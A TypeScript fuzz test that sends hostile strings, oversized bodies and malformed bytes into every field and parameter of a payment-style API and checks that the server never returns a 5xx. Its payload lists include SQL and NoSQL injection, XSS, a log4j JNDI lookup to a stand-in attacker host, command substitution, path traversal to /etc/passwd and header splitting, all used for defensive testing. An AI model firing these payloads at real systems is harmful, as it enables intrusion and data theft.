import { type CallDef, CardTokenRequest, calls } from '@vendo/core/contract';
import { callExamples } from '@vendo/core/contract/examples';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import { type RateLimitSettings, rateLimits } from '../http/rate-limits.ts';
import { capturedLog } from '../testing/captured-log.ts';
import { startTestServer, type TestServer, testProvider, tokenise } from '../testing/harness.ts';

/*
 * Every string a client can put in a request (JSON body fields, path parameters, query
 * parameters) is filled, one at a time, with text that breaks naive code: NUL bytes, lone
 * surrogates, bodies at and past the 64 KB limit, injection text, invisible and reordering
 * characters. Whatever it is, the answer is a 4xx or a success, never a 5xx.
 */

type Schema = z.core.$ZodType;
type Segment = string | number;

/**
 * A hostile value: text as it is; or text repeated until the request reaches `bytes` (the whole
 * body, or the encoded path or query value); or bytes that are not UTF-8 (`hex`), spliced raw into
 * the JSON text or percent-encoded into a URL; or `url` text placed in a URL without encoding.
 */
type Hostile =
  | string
  | { readonly fill: string; readonly bytes: number }
  | { readonly hex: string }
  | { readonly url: string };

// ---------------------------------------------------------------------------------------------
// What the contract lets a client send: targets and their string fields, from the schemas.

interface Target {
  /** The call's name in the contract, or `provider.tokenise`. */
  readonly name: string;
  readonly method: string;
  /** Relative to the server, with `{param}` placeholders. */
  readonly path: string;
  readonly body?: Schema;
  readonly query?: Schema;
  /** The example body from callExamples (or the provider's), before this database's ids go in. */
  readonly example?: unknown;
  readonly idempotent: boolean;
  readonly provider: boolean;
}

/** The card data the harness's `tokenise` sends: the provider endpoint's realistic body. */
const tokenBody = {
  card_number: '4111111111111111',
  holder_name: 'Ana López',
  expiration_year: '30',
  expiration_month: '12',
  cvv2: '123',
};

const callNames = Object.keys(calls) as (keyof typeof calls)[];

const targets: Target[] = [
  ...callNames.map((name): Target => {
    const call = calls[name] as CallDef;
    const example = (callExamples[name] as { body?: { good: unknown } }).body?.good;
    return {
      name,
      method: call.method,
      path: `${call.base === 'v4' ? '/api/v4/' : '/api/'}${call.path}`,
      ...(call.body ? { body: call.body, example } : {}),
      ...(call.query ? { query: call.query } : {}),
      idempotent: call.idempotent === true,
      provider: false,
    };
  }),
  {
    name: 'provider.tokenise',
    method: 'POST',
    path: '/provider/v1/{merchant}/tokens',
    body: CardTokenRequest,
    example: tokenBody,
    idempotent: false,
    provider: true,
  },
];

type JsonSchema = {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  items?: JsonSchema;
  prefixItems?: JsonSchema[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
};

/** Paths of every string-typed place of a JSON schema (enums and string constants included), nested ones too. */
function stringPathsOfSchema(schema: JsonSchema, at: Segment[] = []): Segment[][] {
  const types = Array.isArray(schema.type) ? schema.type : schema.type ? [schema.type] : [];
  const found: Segment[][] = types.includes('string') ? [at] : [];
  for (const [key, inner] of Object.entries(schema.properties ?? {}))
    found.push(...stringPathsOfSchema(inner, [...at, key]));
  if (schema.items) found.push(...stringPathsOfSchema(schema.items, [...at, 0]));
  for (const [index, inner] of (schema.prefixItems ?? []).entries())
    found.push(...stringPathsOfSchema(inner, [...at, index]));
  for (const inner of [...(schema.anyOf ?? []), ...(schema.oneOf ?? []), ...(schema.allOf ?? [])]) {
    found.push(...stringPathsOfSchema(inner, at));
  }
  return found;
}

/** Paths of every string in an example value. */
function stringPathsOfValue(value: unknown, at: Segment[] = []): Segment[][] {
  if (typeof value === 'string') return [at];
  if (Array.isArray(value)) return value.flatMap((inner, index) => stringPathsOfValue(inner, [...at, index]));
  if (value && typeof value === 'object') {
    return Object.entries(value).flatMap(([key, inner]) => stringPathsOfValue(inner, [...at, key]));
  }
  return [];
}

const jsonSchemaOf = (schema: Schema) =>
  z.toJSONSchema(schema, { target: 'draft-2020-12', io: 'input', unrepresentable: 'any' }) as JsonSchema;

/** The string fields of a schema and of its example, each once; a field of the whole body is `(body)`. */
function stringFields(schema: Schema, example: unknown): Segment[][] {
  const all = [...stringPathsOfSchema(jsonSchemaOf(schema)), ...stringPathsOfValue(example)];
  const seen = new Map(all.map((path) => [path.join('.'), path]));
  return [...seen.values()];
}

const fieldName = (path: readonly Segment[]) => path.join('.') || '(body)';

const bodyCases = targets.flatMap((target) =>
  target.body
    ? stringFields(target.body, target.example).map((path) => ({
        label: `${target.name}.${fieldName(path)}`,
        target,
        path,
      }))
    : [],
);

const pathCases = targets.flatMap((target) =>
  [...target.path.matchAll(/\{(\w+)\}/g)].map(([, param]) => ({
    label: `${target.name} {${param}}`,
    target,
    param: param as string,
  })),
);

const queryKeys = (schema: Schema) => Object.keys(jsonSchemaOf(schema).properties ?? {});

const queryCases = targets.flatMap((target) =>
  target.query ? queryKeys(target.query).map((key) => ({ label: `${target.name} ?${key}`, target, key })) : [],
);

// ---------------------------------------------------------------------------------------------
// The hostile values.

const nulStrings = [
  '\u0000',
  '\u0000abc',
  'ab\u0000c',
  'abc\u0000',
  'a\u0000b',
  '\u0000'.repeat(100),
  'Ana\u0000López',
];

const loneSurrogates = [
  '\uD800',
  '\uDFFF',
  '\uDBFF',
  '\uDC00',
  '\uDFFF\uD800', // a pair written backwards
  '\uDE00\uD83D', // 😀's halves backwards
  'a\uD800b',
  'abc\uDFFF',
  '\uD800\uD800',
  '\uDC00\uDC00', // two low halves in a row
  'x\uDFFF\uDFFFy',
  '\uD83Dx',
];

const injections = [
  "' OR 1=1 --",
  '"); drop table members; --',
  '1; select pg_sleep(10); --',
  '$$; drop table members; $$',
  "E'\\x00'",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: log4j lookup text, sent as it is
  '${jndi:ldap://attacker.invalid/a}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template injection text, sent as it is
  '${7*7}',
  '{{7*7}}',
  '%00',
  '%zz',
  '%ED%A0%80',
  '\\u0000',
  '\\ud800',
  '\\x00',
  '\\',
  '"',
  "'",
  '`id`',
  '../../../../etc/passwd',
  'a\r\nSet-Cookie: x=1',
  '{"$ne":null}',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '1e309',
  '',
  ' ',
  '\t\n\r ',
];

const oddUnicode = [
  '\u202Eevil\u202C', // right-to-left override
  'invoice\u202Efdp.exe',
  '\u200F\u200E',
  '\u200B\u200C\u200D',
  '\uFEFF',
  '\u2028\u2029',
  '\u0085',
  '\u007F',
  '\u0001\u0002\u001B[31m',
  '\uFFFE\uFFFF',
  '\u{10FFFF}',
  '😀',
  '👩‍👩‍👧‍👦',
  '🇲🇽',
  'Z\u0335\u0321\u0322\u031B\u0319\u031Ea\u0338\u0322l\u0335g\u0338o\u0334',
  'İstanbul',
  'ﷺ',
  '０１２３４５６７８９',
  '٠١٢٣٤٥٦٧٨٩',
  '𝟘𝟙𝟚',
];

/** Long text well inside the body limit. */
const longUnicode = ['漢'.repeat(4096), '😀'.repeat(2048), 'é'.repeat(8000), 'a'.repeat(10_000)];

const bodyLimit = 64 * 1024;

/** A sweep sends a hundred requests or more, some of 64 KB: more than vitest's default 5 s on a busy machine. */
const sweepTimeout = 60_000;

/** One string field grown until the whole body is ~60 KB, exactly 64 KB (the most allowed), and over it. */
const bodyFills: Hostile[] = [
  { fill: 'a', bytes: 60_000 },
  { fill: '😀', bytes: 60_000 },
  ...['a', '漢', '😀', '\u0000', '\uD800', '"'].map((fill) => ({ fill, bytes: bodyLimit })),
  { fill: 'a', bytes: bodyLimit + 1 },
  { fill: '😀', bytes: 70_000 },
];

/** Bytes that are not UTF-8: a surrogate's encoding, an overlong NUL, stray and truncated bytes, past U+10FFFF. */
const notUtf8: Hostile[] = ['eda080', 'edbfbf', 'c080', 'ff', 'fffe', '80', 'e282', 'f4908080'].map((hex) => ({ hex }));

/** Path and query values: a URL a few KB long, and one past what Node reads as a request line (16 KB). */
const urlFills: Hostile[] = ['a', '😀', '\u0000', '\uD800'].flatMap((fill) => [
  { fill, bytes: 2_000 },
  { fill, bytes: 8_000 },
]);
const urlOversize: Hostile[] = [{ fill: 'a', bytes: 20_000 }];

/** Escapes put in a URL as they are: broken, NUL, surrogate, overlong, traversal, header splitting. */
const rawUrl: Hostile[] = [
  '%00',
  'a%00b',
  '%',
  '%zz',
  '%ED%A0%80',
  '%C0%80',
  '%FF%FE',
  '%E2%80%AE',
  '..%2F..%2F',
  '%2e%2e',
  '%2F',
  '%5C',
  '%0D%0ASet-Cookie:%20x=1',
  '%25%30%30',
].map((url) => ({ url }));

/** Hostile strings made from the field's own realistic value, so they keep its length and shape. */
function shapedLike(good: unknown): Hostile[] {
  if (typeof good !== 'string' || good.length === 0) return [];
  const middle = Math.floor(good.length / 2);
  const replace = (at: number, text: string) => `${good.slice(0, at)}${text}${good.slice(at + text.length)}`;
  const insert = (at: number, text: string) => `${good.slice(0, at)}${text}${good.slice(at)}`;
  return [
    replace(0, '\u0000'),
    replace(middle, '\u0000'),
    replace(good.length - 1, '\u0000'),
    insert(0, '\u0000'),
    insert(good.length, '\u0000'),
    replace(middle, '\uD800'),
    replace(middle, '\uDFFF'),
    replace(Math.max(0, middle - 1), '\uDC00\uDC00'),
    insert(middle, '\u202E'),
    `${good}\u0000${good}`,
  ];
}

/**
 * Generated hostile text for the random runs: ordinary strings, any code point (`unit: 'binary'`,
 * fast-check 4's fullUnicodeString), graphemes, runs of lone surrogates, NULs spliced in, and the lists above.
 */
const hostileText = (maxLength: number) => {
  const surrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((unit) => String.fromCharCode(unit));
  const spiced = fc.oneof(
    fc.constant('\u0000'),
    surrogate,
    fc.constantFrom(...oddUnicode),
    fc.string({ unit: 'binary' }),
  );
  return fc.oneof(
    fc.string({ maxLength }),
    fc.string({ unit: 'binary', maxLength }),
    fc.string({ unit: 'grapheme', maxLength }),
    fc.string({ unit: fc.oneof(fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }), surrogate), maxLength }),
    fc
      .tuple(fc.string({ maxLength: maxLength / 2 }), spiced, fc.string({ maxLength: maxLength / 2 }))
      .map((parts) => parts.join('')),
    fc.constantFrom(...injections, ...oddUnicode, ...nulStrings, ...loneSurrogates),
  );
};

const bodyExamples: Hostile[] = [
  ...nulStrings,
  ...loneSurrogates,
  ...injections,
  ...oddUnicode,
  ...longUnicode,
  ...bodyFills,
  ...notUtf8,
];

/**
 * Path and query parameters are many (one per route) and mostly parsed by one function, so each
 * gets the NUL, surrogate, size and escape cases plus these; the rest of the injection and Unicode
 * lists reach them through the generated runs.
 */
const urlEssentials = [
  "' OR 1=1 --",
  '"); drop table members; --',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: log4j lookup text, sent as it is
  '${jndi:ldap://attacker.invalid/a}',
  '\\u0000',
  '\u202Eevil\u202C',
  '😀',
  '👩‍👩‍👧‍👦',
  '../../../../etc/passwd',
  '',
  ' ',
];

const urlExamples: Hostile[] = [
  ...nulStrings,
  ...loneSurrogates,
  ...urlEssentials,
  ...urlFills,
  ...urlOversize,
  ...notUtf8,
  ...rawUrl,
];

// ---------------------------------------------------------------------------------------------
// Putting a hostile value into a request.

function withValue(body: unknown, path: readonly Segment[], value: unknown): unknown {
  if (path.length === 0) return value;
  const copy = structuredClone(body ?? {}) as Record<Segment, unknown>;
  let node = copy;
  for (const [index, segment] of path.slice(0, -1).entries()) {
    node[segment] ??= typeof path[index + 1] === 'number' ? [] : {};
    node = node[segment] as Record<Segment, unknown>;
  }
  node[path[path.length - 1] as Segment] = value;
  return copy;
}

const hexBytes = (hex: string) => Buffer.from(hex, 'hex');
const marker = 'HOSTILE_BYTES_GO_HERE';

/** The body with the field at `path` set to the hostile value, as the bytes sent. */
function bodyBytes(good: unknown, path: readonly Segment[], value: Hostile): Buffer {
  const json = (text: string) => Buffer.from(JSON.stringify(withValue(good, path, text)));
  if (typeof value === 'string') return json(value);
  if ('url' in value) return json(value.url);
  if ('hex' in value) {
    const [before, after] = JSON.stringify(withValue(good, path, marker)).split(marker) as [string, string];
    return Buffer.concat([Buffer.from(before), hexBytes(value.hex), Buffer.from(after)]);
  }
  const rest = json('').length;
  const unit = Buffer.byteLength(JSON.stringify(value.fill)) - 2;
  return json(value.fill.repeat(Math.max(1, Math.floor((value.bytes - rest) / unit))));
}

const percent = (bytes: Uint8Array) =>
  [...bytes].map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('');

/** encodeURIComponent, except that a lone surrogate goes out as the three bytes it would be (not UTF-8). */
function encodeText(text: string): string {
  let out = '';
  for (let index = 0; index < text.length; index++) {
    const unit = text.charCodeAt(index);
    const next = text.charCodeAt(index + 1);
    if (unit >= 0xd800 && unit <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
      out += encodeURIComponent(text.slice(index, index + 2));
      index++;
    } else if (unit >= 0xd800 && unit <= 0xdfff) {
      out += percent(Uint8Array.of(0xe0 | (unit >> 12), 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)));
    } else {
      out += encodeURIComponent(text.charAt(index));
    }
  }
  return out;
}

/** A hostile value as it goes into a URL. */
function urlText(value: Hostile): string {
  if (typeof value === 'string') return encodeText(value);
  if ('url' in value) return value.url;
  if ('hex' in value) return percent(hexBytes(value.hex));
  const unit = encodeText(value.fill);
  return unit.repeat(Math.max(1, Math.floor(value.bytes / unit.length)));
}

/** A short, printable account of a hostile value for failure messages. */
function shown(value: Hostile): string {
  if (typeof value === 'string') {
    const text = JSON.stringify(value);
    return value.length > 40 ? `${text.slice(0, 40)}…" (${value.length} chars)` : text;
  }
  if ('fill' in value) return `${JSON.stringify(value.fill)} repeated to ${value.bytes} bytes`;
  if ('hex' in value) return `bytes ${value.hex} (not UTF-8)`;
  return `raw ${JSON.stringify(value.url)}`;
}

// ---------------------------------------------------------------------------------------------
// The server, a signed-in member, and real ids of this database.

/**
 * Every rate limit lifted (each one, so a new limit is lifted too): thousands of requests come from
 * one address and one member here, and what is judged is their strings, not how many there are.
 */
const lifted = Object.fromEntries(
  Object.entries(rateLimits).map(([name, limit]) => [name, { ...limit, points: 1_000_000 }]),
) as RateLimitSettings;

let t: TestServer;
let member: { id: number; token: string };
let live: { machineId: number; cardId: number; dealId: number; productId: number; token: string };
let sent = 0;
/** The server's error lines: a failure names the error the server logged for it. */
const serverLog = capturedLog('error');
const serverErrors = () =>
  serverLog.entries().map(({ err }) => {
    const { type, message } = (err ?? {}) as { type?: string; message?: string };
    return `${type}: ${message}`.slice(0, 120);
  });
const tooMany = new Map<string, number>();

interface Answer {
  readonly status: number;
  readonly text: string;
}

async function send(target: Target, path: string, body?: Buffer, reuse = false): Promise<Answer> {
  sent++;
  const headers: Record<string, string> = target.provider
    ? { Authorization: `Basic ${Buffer.from(`${testProvider.publicKey}:`).toString('base64')}` }
    : { Authorization: `Token token=${member.token}` };
  if (body) headers['Content-Type'] = 'application/json';
  // Refused before it is read, an oversized body leaves its connection unusable: it is not reused for the next request
  // (pinned by its own test below), so a failure is blamed on the request that met it.
  if (body && body.length > bodyLimit && !reuse) headers.Connection = 'close';
  if (target.idempotent) headers['Idempotency-Key'] = `hostile-${sent}`;
  try {
    const response = await fetch(`${t.url}${path}`, {
      method: target.method,
      headers,
      ...(body ? { body: new Uint8Array(body) } : {}),
    });
    const text = await response.text();
    if (response.status === 429) tooMany.set(target.name, (tooMany.get(target.name) ?? 0) + 1);
    return { status: response.status, text };
  } catch (failure) {
    // No answer at all (a reset connection) is no better than a 5xx.
    return { status: 599, text: `no answer: ${(failure as Error).cause ?? failure}` };
  }
}

/** The value of a path parameter that names the member's own things, or a real one of this database. */
function ownParam(target: Target, param: string): string {
  if (param === 'merchant') return testProvider.merchantId;
  if (param === 'name') return 'demo';
  if (param === 'id') {
    if (target.path.startsWith('/api/community_members/')) return String(member.id);
    if (target.path.startsWith('/api/product_servers/')) return String(live.machineId);
    return '1';
  }
  const ids: Record<string, number> = { cardId: live.cardId, dealId: live.dealId, productId: live.productId };
  return String(ids[param] ?? 1);
}

const pathOf = (target: Target, param = (name: string) => encodeText(ownParam(target, name))) =>
  target.path.replace(/\{(\w+)\}/g, (_, name: string) => param(name));

/** The realistic value of a query parameter. */
function ownQueryValue(target: Target, key: string): string {
  if (key === 'community_member_id') return String(member.id);
  const type = jsonSchemaOf(target.query as Schema).properties?.[key]?.type;
  return type === 'integer' || type === 'number' ? '1' : '2.0.0';
}

function queryOf(target: Target, key: string, value: string): string {
  const pairs = queryKeys(target.query as Schema).map(
    (name) => `${name}=${name === key ? value : encodeText(ownQueryValue(target, name))}`,
  );
  return `?${pairs.join('&')}`;
}

/** The example body with this database's ids and a live card token, so requests get past lookups to the strings. */
function goodBody(target: Target): unknown {
  const body = structuredClone(target.example) as Record<string, unknown> | undefined;
  if (!body || typeof body !== 'object') return body;
  const fix = (node: Record<string, unknown>) => {
    for (const [key, value] of Object.entries(node)) {
      if (key === 'credit_card_id' && typeof value === 'number') node[key] = live.cardId;
      else if (key === 'community_member_id' && typeof value === 'number') node[key] = member.id;
      else if (key === 'product_server_id' && typeof value === 'number') node[key] = live.machineId;
      else if (value && typeof value === 'object') fix(value as Record<string, unknown>);
    }
  };
  fix(body);
  if (target.name === 'addCard') body.token = live.token;
  return body;
}

function valueAt(body: unknown, path: readonly Segment[]): unknown {
  return path.reduce<unknown>((node, segment) => (node as Record<Segment, unknown> | undefined)?.[segment], body);
}

/** A 5xx (or no answer) with what the server logged while answering it. */
interface Failure {
  readonly value: string;
  readonly status: number;
  readonly answer: string;
}

async function judged(value: Hostile, request: () => Promise<Answer>): Promise<Failure | null> {
  const logged = serverLog.lines.length;
  const { status, text } = await request();
  if (status < 500) return null;
  const log = serverErrors().slice(logged).join(' | ');
  return { value: shown(value), status, answer: (log || text).slice(0, 200) };
}

/**
 * Every example value, then `randomRuns` generated ones; the test fails listing every example
 * answered with a 5xx (or not answered), and the shrunk generated counterexample with its seed.
 */
async function sweep(
  examples: Hostile[],
  generated: fc.Arbitrary<Hostile>,
  randomRuns: number,
  request: (value: Hostile) => Promise<Answer>,
) {
  const failures: string[] = [];
  for (const value of examples) {
    const failure = await judged(value, () => request(value));
    if (failure) failures.push(`${failure.status} for ${failure.value}: ${failure.answer}`);
  }
  const details = await fc.check(
    fc.asyncProperty(generated, async (value) => (await judged(value, () => request(value))) === null),
    { numRuns: randomRuns },
  );
  if (details.failed) failures.push(`generated text: ${fc.defaultReportMessage(details)}`);
  if (failures.length > 0)
    expect.fail(`${failures.length} hostile values were not answered with < 500:\n${failures.join('\n')}`);
}

beforeAll(async () => {
  t = await startTestServer(undefined, undefined, undefined, { rateLimits: lifted, logger: serverLog.logger });
  member = await t.member('+525560000002', 2_000);
  const json = async (path: string, init: RequestInit = {}) => {
    const response = await fetch(`${t.url}${path}`, {
      ...init,
      headers: { Authorization: `Token token=${member.token}`, 'Content-Type': 'application/json', ...init.headers },
    });
    const body = (await response.json()) as Record<string, Record<string, unknown>>;
    if (!response.ok) throw new Error(`${init.method ?? 'GET'} ${path}: ${response.status} ${JSON.stringify(body)}`);
    return body;
  };
  const machineId = Number((await json('/api/product_server/demo')).product_server?.id);
  const products = (await json(`/api/product_servers/${machineId}/products`)).product_server_items as unknown as {
    id: number;
  }[];
  const token = await tokenise(t, '4111111111111111');
  const card = await json(`/api/community_members/${member.id}/credit_cards`, {
    method: 'POST',
    body: JSON.stringify({ ...callExamples.addCard.body.good, token }),
  });
  const deal = await json(`/api/product_servers/${machineId}/deals`, {
    method: 'POST',
    headers: { 'Idempotency-Key': 'hostile-setup' },
    body: JSON.stringify(callExamples.createDeal.body.good),
  });
  live = {
    machineId,
    cardId: Number(card.credit_card?.id),
    dealId: Number(deal.deal?.id),
    productId: Number(products[0]?.id),
    token,
  };
}, 60_000);

afterAll(async () => {
  await t?.close();
});

// ---------------------------------------------------------------------------------------------

describe('hostile strings never answer a 5xx', { timeout: sweepTimeout }, () => {
  it('finds the string fields of every call from the contract, nested ones included', () => {
    // Each example string is found in its schema too: a field the walk missed would go untested.
    for (const { target, path } of bodyCases) {
      const inSchema = stringPathsOfSchema(jsonSchemaOf(target.body as Schema)).some(
        (each) => fieldName(each) === fieldName(path),
      );
      expect(inSchema, `${target.name}.${fieldName(path)}`).toBe(true);
    }
    expect(bodyCases.length).toBeGreaterThanOrEqual(30);
  });

  it.each(targets.filter((target) => target.body).map((target) => [target.name, target] as const))(
    'the realistic body of %s is valid, so one hostile field is the only thing wrong',
    (_, target) => {
      expect(z.safeParse(target.body as Schema, goodBody(target)).error?.issues ?? []).toEqual([]);
    },
  );

  it.each(bodyCases.map((each) => [each.label, each] as const))(
    'hostile text in %s is never a 5xx',
    async (_, { target, path }) => {
      const good = goodBody(target);
      const url = pathOf(target);
      await sweep([...shapedLike(valueAt(good, path)), ...bodyExamples], hostileText(200), 10, (value) =>
        send(target, url, bodyBytes(good, path, value)),
      );
    },
  );

  it.each(pathCases.map((each) => [each.label, each] as const))(
    'hostile text in the path parameter %s is never a 5xx',
    async (_, { target, param }) => {
      const own = ownParam(target, param);
      const good = target.body ? Buffer.from(JSON.stringify(goodBody(target))) : undefined;
      await sweep(
        urlExamples,
        // The member's own id would turn a DELETE into the real thing (ending the session the suite signs in with).
        hostileText(80).filter((text) => text !== own),
        8,
        (value) =>
          send(
            target,
            pathOf(target, (name) => (name === param ? urlText(value) : encodeText(ownParam(target, name)))),
            good,
          ),
      );
    },
  );

  it.each(queryCases.map((each) => [each.label, each] as const))(
    'hostile text in the query parameter %s is never a 5xx',
    async (_, { target, key }) => {
      await sweep([...urlExamples, ...injections, ...oddUnicode], hostileText(80), 12, (value) =>
        send(target, `${pathOf(target)}${queryOf(target, key, urlText(value))}`),
      );
    },
  );
});

/** One call with a body under each prefix (/api/, /api/v4/, /provider/): the limit is the app's, not a route's. */
const prefixOf = (target: Target) => /^\/(api\/v4|[^/]+)\//.exec(target.path)?.[0];
const onePerPrefix = targets.filter(
  (target, index, all) =>
    target.body && all.findIndex((other) => other.body && prefixOf(other) === prefixOf(target)) === index,
);

describe('a body over the 64 KB limit', { timeout: sweepTimeout }, () => {
  it.each(onePerPrefix.map((target) => [target.name, target] as const))(
    'sent to %s is refused with 413, and the next requests on its connection are still answered',
    async (_, target) => {
      const [path] = stringFields(target.body as Schema, target.example);
      const huge = bodyBytes(goodBody(target), path ?? [], { fill: 'a', bytes: 1024 * 1024 });
      const refused = await send(target, pathOf(target), huge, true);
      const next: Answer[] = [];
      for (let index = 0; index < 3; index++) {
        next.push(await send(target, pathOf(target), Buffer.from('{}'), true));
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      const answered = ({ status, text }: Answer) => (status < 500 ? 'answered' : `${status} ${text}`);
      const answers = [refused.status, ...next.map(answered)];
      expect(answers, JSON.stringify(answers)).toEqual([413, 'answered', 'answered', 'answered']);
    },
  );
});

describe('a NUL byte in a string field is refused by name', { timeout: sweepTimeout }, () => {
  /** True when the error object names the field as a whole word (not inside another word such as voucher_code_invalid). */
  const names = (error: unknown, field: string) =>
    new RegExp(`(^|[^A-Za-z0-9_])${field.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}([^A-Za-z0-9_]|$)`).test(
      JSON.stringify(error ?? null),
    );

  async function refusal(target: Target, path: readonly Segment[], value: string) {
    const answer = await send(target, pathOf(target), bodyBytes(goodBody(target), path, value));
    let error: unknown;
    try {
      error = (JSON.parse(answer.text) as { error?: unknown }).error;
    } catch {
      error = undefined;
    }
    return { ...answer, error };
  }

  it.each(bodyCases.map((each) => [each.label, each] as const))(
    'a NUL byte in %s is refused with 422 naming the field',
    async (_, { target, path }) => {
      const field = fieldName(path);
      const { status, text, error } = await refusal(target, path, 'a\u0000b');
      expect(status, text).toBeLessThan(500);
      expect({ status, namesTheField: names(error, field) }, text).toEqual({ status: 422, namesTheField: true });
    },
  );

  // "a\u0000b" is refused by any length or format check; a NUL inside a value of the right shape is not.
  const shaped = bodyCases.filter(({ target, path }) => {
    const good = valueAt(target.example, path);
    return typeof good === 'string' && good.length > 0;
  });

  it.each(shaped.map((each) => [each.label, each] as const))(
    'a NUL byte inside an otherwise well-formed %s is refused with 422 naming the field',
    async (_, { target, path }) => {
      const field = fieldName(path);
      const good = valueAt(goodBody(target), path) as string;
      const middle = Math.floor(good.length / 2);
      const { status, text, error } = await refusal(
        target,
        path,
        `${good.slice(0, middle)}\u0000${good.slice(middle + 1)}`,
      );
      expect(status, text).toBeLessThan(500);
      expect({ status, namesTheField: names(error, field) }, text).toEqual({ status: 422, namesTheField: true });
    },
  );
});

describe('hostile strings reached the handlers', () => {
  it('no hostile request was turned away by a rate limit before its strings were judged', () => {
    const refused = Object.fromEntries(tooMany);
    expect(refused, `429 answers by call: ${JSON.stringify(refused)}`).toEqual({});
  });

  it('sent at least 1,000 hostile requests', () => {
    expect(sent, `${sent} requests`).toBeGreaterThanOrEqual(1_000);
  });
});
